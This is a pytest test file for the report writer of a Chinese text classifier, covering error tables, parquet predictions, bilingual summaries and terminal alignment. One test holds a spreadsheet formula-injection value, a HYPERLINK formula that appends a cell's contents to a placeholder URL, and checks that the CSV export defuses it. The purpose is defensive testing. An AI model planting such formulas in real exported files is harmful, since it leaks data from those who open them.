from __future__ import annotations

import csv
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest

from textclf.errors import DataError
from textclf.evaluation.report import Predictions, errors_table, models_of_split, summary_table, write_report
from textclf.heads.metrics import classification_metrics
from textclf.language import speaking
from textclf.tables import align, display_width, shorten

NAMES = ["负面", "正面"]
PREDICTIONS = Predictions(
    sources=["test-1.csv", "=test-2.csv", "test-2.csv"],
    rows=np.array([3, 4, 7]),
    texts=["很好", '一般，"贵"\n不值', "差"],
    labels=np.array([1, 0, 0]),
    probabilities=np.array([[0.1, 0.9], [0.2, 0.8], [0.7, 0.3]], dtype=np.float32),
    label_names=NAMES,
)


@pytest.fixture
def metrics() -> dict[str, dict[str, float]]:
    found = classification_metrics(PREDICTIONS.labels, PREDICTIONS.probabilities, NAMES)
    fine_tuned = {f"test/{name}": value for name, value in found.items()}
    fine_tuned |= {"untrained/test/accuracy": 0.5, "validation/accuracy": 0.25}
    return {"fine-tuned": fine_tuned, "majority": {"test/accuracy": 1 / 3, "test/f1_macro": 0.25}}


def test_the_report_folder_holds_plots_tables_and_predictions(
    metrics: dict[str, dict[str, float]], tmp_path: Path
) -> None:
    examples = [
        ("before fine-tuning", "我今天|很生气", "正面", 0.51),
        ("after fine-tuning", "我今天|很生气", "负面", 0.98),
    ]
    written = write_report(tmp_path / "report", PREDICTIONS, metrics=metrics, examples=examples)
    assert sorted(path.name for path in written) == sorted(path.name for path in (tmp_path / "report").iterdir())

    content = (tmp_path / "report" / "errors.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the byte order mark to show Chinese"
    with (tmp_path / "report" / "errors.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows == [
        {
            "source": "'=test-2.csv",
            "row": "4",
            "text": '一般，"贵"\n不值',
            "label": "负面",
            "predicted": "正面",
            "score": "0.8000",
            "label_score": "0.2000",
        }
    ]

    table = pq.read_table(tmp_path / "report" / "predictions.parquet")
    identity, probabilities = ["source", "row"], ["probability/负面", "probability/正面"]
    assert table.column_names == [*identity, "text", "label", "predicted", "score", *probabilities]
    assert table["source"].to_pylist() == PREDICTIONS.sources
    assert table["row"].to_pylist() == [3, 4, 7]
    assert table["predicted"].to_pylist() == ["正面", "正面", "负面"]
    again = np.column_stack([table[f"probability/{name}"].to_numpy() for name in NAMES])
    assert np.array_equal(again, PREDICTIONS.probabilities)

    summary = (tmp_path / "report" / "summary.md").read_text(encoding="utf-8")
    assert "1 of 3 test rows" in summary
    assert "| before fine-tuning | 0.5000 | – |" in summary
    assert "| 负面 | 2 | 1.0000 | 0.5000 | 0.6667 |" in summary
    assert "| after fine-tuning | 我今天&#124;很生气 | 负面 | 0.9800 |" in summary


def test_the_summary_is_in_the_chosen_language(metrics: dict[str, dict[str, float]], tmp_path: Path) -> None:
    examples = [("before fine-tuning", "很好", "正面", 0.51), ("after fine-tuning", "很好", "正面", 0.98)]
    with speaking("zh"):
        write_report(tmp_path, PREDICTIONS, metrics=metrics, examples=examples)
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "测试集 3 行中有 1 行分错" in summary
    assert "| 微调前 | 0.5000 | – |" in summary
    words = set(re.findall("[A-Za-z]+", summary.replace("`errors.csv`", "")))
    assert words == {"F", "ROC", "AUC"}, "F1 and ROC-AUC"


def test_errors_are_listed_by_score() -> None:
    table = errors_table(
        Predictions(
            ["a.csv", "a.csv", "b.csv", "b.csv"],
            np.array([10, 11, 12, 13]),
            ["很好", "不错，但是贵", "差", "还行"],
            np.array([1, 1, 0, 0]),
            np.array([[0.1, 0.9], [0.7, 0.3], [0.05, 0.95], [0.6, 0.4]], dtype=np.float32),
            NAMES,
        )
    )
    assert table.columns.tolist() == ["source", "row", "text", "label", "predicted", "score", "label_score"]
    assert table["source"].tolist() == ["b.csv", "a.csv"]
    assert table["row"].tolist() == [12, 11]
    assert table["text"].tolist() == ["差", "不错，但是贵"]
    assert table["label"].tolist() == ["负面", "正面"]
    assert table["predicted"].tolist() == ["正面", "负面"]
    assert table["score"].tolist() == pytest.approx([0.95, 0.7])
    assert table["label_score"].tolist() == pytest.approx([0.05, 0.3])


def test_no_errors_make_an_empty_table_with_all_columns() -> None:
    table = errors_table(replace(PREDICTIONS, labels=np.array([1, 1, 0])))
    assert len(table) == 0
    assert "label_score" in table.columns


def test_errors_table_refuses_columns_of_different_length() -> None:
    with pytest.raises(DataError, match="found 3, 1 and 3"):
        errors_table(replace(PREDICTIONS, texts=["好"]))


def test_texts_that_look_like_formulas_are_dead_in_the_table_of_mistakes(
    metrics: dict[str, dict[str, float]], tmp_path: Path
) -> None:
    predictions = replace(PREDICTIONS, texts=["很好", '=HYPERLINK("http://example.com/"&A1,"点这里")', "差"])
    write_report(tmp_path, predictions, metrics=metrics)
    with (tmp_path / "errors.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["text"] == f"'{predictions.texts[1]}"
    assert pq.read_table(tmp_path / "predictions.parquet")["text"].to_pylist() == predictions.texts


def test_models_of_a_split_come_without_its_name(metrics: dict[str, dict[str, float]]) -> None:
    models = models_of_split(metrics, "test")
    assert list(models) == ["fine-tuned", "before fine-tuning", "majority"]
    assert models["majority"] == {"accuracy": 1 / 3, "f1_macro": 0.25}
    assert models_of_split(metrics, "validation") == {"fine-tuned": {"accuracy": 0.25}}


def test_tables_show_what_the_models_have() -> None:
    models = {"微调后": {"accuracy": 0.95, "f1_macro": 0.94999}, "majority": {"accuracy": 0.5, "support/正面": 3.0}}
    assert summary_table(models).splitlines() == [
        "| Model | Accuracy | F1 macro |",
        "| :--- | ---: | ---: |",
        "| 微调后 | 0.9500 | 0.9500 |",
        "| majority | 0.5000 | – |",
    ]


def test_columns_line_up_in_a_terminal_with_chinese_names() -> None:
    table = align([["Model", "Accuracy"], ["微调后", "0.9500"], ["majority", "–"]])
    assert table.splitlines() == [
        "Model     Accuracy",
        "--------  --------",
        "微调后      0.9500",
        "majority         –",
    ]
    assert len({display_width(line) for line in table.splitlines()}) == 1


def test_text_is_cut_by_the_columns_it_takes() -> None:
    assert shorten("农业与乡村振兴", 14) == "农业与乡村振兴"
    assert shorten("农业与乡村振兴", 13) == "农业与乡村振…"
    assert display_width(shorten("a农业与乡村振兴", 8)) <= 8
